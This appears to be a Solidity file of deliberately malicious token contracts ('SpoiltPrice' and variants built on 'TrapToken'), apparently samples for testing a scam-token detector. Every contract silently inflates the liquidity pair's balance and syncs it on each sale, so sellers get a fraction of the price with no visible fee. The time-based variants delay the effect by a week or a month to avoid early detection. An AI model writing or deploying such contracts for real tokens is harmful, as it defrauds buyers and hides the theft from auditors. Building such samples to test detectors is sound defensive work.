// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.9.0;

import {TrapToken} from "./TrapToken.sol";

interface SpoiltPair {
    function sync() external;
}

/// @notice Each sale first gives the pool nine times what it has: the price is a tenth, and no fee shows.
contract SpoiltPrice is TrapToken {
    constructor(address router_) TrapToken(router_) {}

    function _gift() internal view virtual returns (uint256) {
        return _held[pair] * 9;
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (_isSell(from, to) && _held[pair] > 0 && _gift() > 0) {
            _held[pair] += _gift();
            SpoiltPair(pair).sync();
        }
        super._move(from, to, amount);
    }
}

/// @notice One token in a hundred: what an inflation costs.
contract SpoiltPriceTwin is SpoiltPrice {
    constructor(address router_) SpoiltPrice(router_) {}

    function _gift() internal view override returns (uint256) {
        return _held[pair] / 100;
    }
}

/// @notice The gift doubles each half day, without a branch: nothing for a week, everything after a month.
contract SpoiltPriceLater is SpoiltPrice {
    uint256 internal _since = block.timestamp;

    constructor(address router_) SpoiltPrice(router_) {}

    function _gift() internal view override returns (uint256) {
        return (_held[pair] * (2 ** ((block.timestamp - _since) / 43200))) >> 40;
    }
}

/// @notice The pool gets a percent more each month.
contract SpoiltPriceLaterTwin is SpoiltPrice {
    uint256 internal _since = block.timestamp;

    constructor(address router_) SpoiltPrice(router_) {}

    function _gift() internal view override returns (uint256) {
        return (_held[pair] * ((block.timestamp - _since) / 30 days)) / 100;
    }
}
